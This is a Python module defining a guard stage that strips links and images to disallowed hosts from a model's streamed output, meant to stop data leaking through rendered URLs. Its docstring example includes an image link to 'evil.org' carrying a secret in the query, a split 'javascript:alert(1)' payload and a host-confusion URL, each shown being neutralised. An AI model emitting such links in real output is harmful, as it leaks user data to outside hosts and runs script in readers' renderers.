"""`Links`: a guard against links and images in a model's output that carry away what the model knows.

The text is read by marks, not by a grammar. A parser of Markdown would find the links that *it* sees; what leaves here is read by a
renderer that nobody knows, which may take for a link what that parser took for code, for a comment or for half a tag. So whatever
could be a link to any reader is judged, and nothing of the text is ever hidden from that. What a mark begins is judged
in `links_verdicts`, and where URLs lead in `links_urls`; the readings of tags are in `links_tags`, the marks in `links_scan`.
"""

from __future__ import annotations

import dataclasses
from functools import cached_property
from typing import TYPE_CHECKING, Annotated, ClassVar, Literal

from pydantic import BeforeValidator, Field, ValidationInfo

from streamfilter.context import Context
from streamfilter.display import holding
from streamfilter.machine import TextMachine
from streamfilter.markup.links_machine import Guard
from streamfilter.markup.links_urls import NEVER, Urls, hosts
from streamfilter.markup.links_verdicts import Verdicts
from streamfilter.pipeline import TextStage, stage

MAX_HOLD = 2_000
"""Characters held for one target that cannot be judged yet. Hosts and schemes are much shorter; a `srcset` may be long."""

_PLAIN = frozenset(" -_…•*")
"""What may stand where a URL stood, besides letters and digits: no mark of Markdown or HTML that joins with others."""


def _listed(value: object, info: ValidationInfo) -> object:
    if isinstance(value, str):
        name = "" if info.field_name == "allow" else f"{info.field_name}="
        raise ValueError(f"one string is no list: write Links({name}[{value!r}])")  # pydantic tells only a ValueError
    return value


_Hosts = Annotated[tuple[Annotated[str, Field(min_length=1)], ...], BeforeValidator(_listed)]
_Schemes = Annotated[tuple[Annotated[str, Field(pattern=r"^[a-z][a-z0-9+.\-]*$")], ...], BeforeValidator(_listed)]


@stage
class Links(TextStage):
    r"""Take out URLs that lead, or load, from hosts that are not allowed. A guard: it applies to every text channel.

    Links and images of Markdown and HTML, reference definitions, autolinks, bare URLs, styles. Only the URL goes: the target of a
    link, and the value of an attribute, become `#`; a URL that is its own text becomes `to`.

    Args:
        allow: hosts that links may lead to. `"example.com"` is that host alone, `"*.example.com"` every host below it; with a port
            only that port.
        images: hosts from which something may be loaded without a click; links may lead there too. By default none.
        schemes: the schemes that links may have. Of `mailto`, the hosts of the addresses must be allowed.
        relative: whether URLs of the page's own host are allowed, images too.
        domains: whether names of hosts count as URLs too (`example.org/x`, `//example.org`), as some renderers make links of them.
            To this guard `main.py` and `Node.js` are such names then, and it holds every word until it has ended.
        to: what stands in for a URL in plain text and in `<…>`: letters, digits and blanks, perhaps in square brackets.
        action: `"replace"`, or how the stream ends at the first such URL: `"raise"` raises `Blocked`, with the rule `"link"` or
            `"image"` and never the URL, `"stop"` ends it without an error.
        max_hold: characters that may be held for one URL that cannot be judged yet; a longer one is refused.
        channels: the kinds of channel it applies to; None is every kind. The arguments of tool calls are read as JSON.

    Raises:
        ValueError: an entry of `allow` or `images` is no host, a scheme can never be allowed, or `to` could become part of a link.
        Blocked: while streaming, if `action="raise"`.

    Example:
        >>> import streamfilter as sf
        >>> stage = sf.Links(["example.com"], images=["img.example.com"])
        >>> stage.apply("[Paris](https://example.com/paris) ![](https://evil.org/?q=secret) and https://example.com@evil.org/")
        '[Paris](https://example.com/paris) ![](#) and [link]'
        >>> list(stage.iter(["see [this](java", "script:alert(1)", ") and ", "more"]))
        ['see [this]', '(', '#', ') and ', 'more']
    """

    allow: _Hosts = ()
    images: _Hosts = dataclasses.field(default=(), kw_only=True)
    schemes: _Schemes = dataclasses.field(default=("https", "http", "mailto"), kw_only=True)
    relative: bool = dataclasses.field(default=True, kw_only=True)
    domains: bool = dataclasses.field(default=False, kw_only=True)
    to: str = dataclasses.field(default="[link]", kw_only=True)
    action: Literal["replace", "raise", "stop"] = dataclasses.field(default="replace", kw_only=True)
    max_hold: Annotated[int, Field(ge=400)] = dataclasses.field(default=MAX_HOLD, kw_only=True)
    channels: tuple[str, ...] | None = dataclasses.field(default=None, kw_only=True)

    is_guard: ClassVar[bool] = True

    if TYPE_CHECKING:
        from collections.abc import Sequence  # noqa: PLC0415

        def __init__(
            self,
            allow: Sequence[str] = ...,
            *,
            images: Sequence[str] = ...,
            schemes: Sequence[str] = ...,
            relative: bool = ...,
            domains: bool = ...,
            to: str = ...,
            action: Literal["replace", "raise", "stop"] = ...,
            max_hold: int = ...,
            channels: tuple[str, ...] | None = ...,
        ) -> None: ...

    def compile(self) -> None:
        _ = self._verdicts
        never = sorted(NEVER.intersection(self.schemes))
        if never:
            raise ValueError(f"schemes: {never[0]!r} can never be allowed: such a URL needs no host to do harm")
        inner = self.to[1:-1] if self.to[:1] == "[" and self.to[-1:] == "]" else self.to
        if not all(character.isalnum() or character in _PLAIN for character in inner):
            raise ValueError("to: only letters, digits and blanks, perhaps in square brackets: others could become part of a link")

    @cached_property
    def _verdicts(self) -> Verdicts:
        urls = Urls(hosts(self.allow), hosts(self.images), frozenset(self.schemes), self.relative)
        return Verdicts(urls, self.max_hold)

    def start(self, context: Context | None = None) -> TextMachine:
        given = context or Context()
        return Guard(self._verdicts, given, to=self.to, action=self.action, domains=self.domains)

    def holds(self) -> str:
        return holding("the beginning of a URL until it is clear where it leads", self.max_hold)
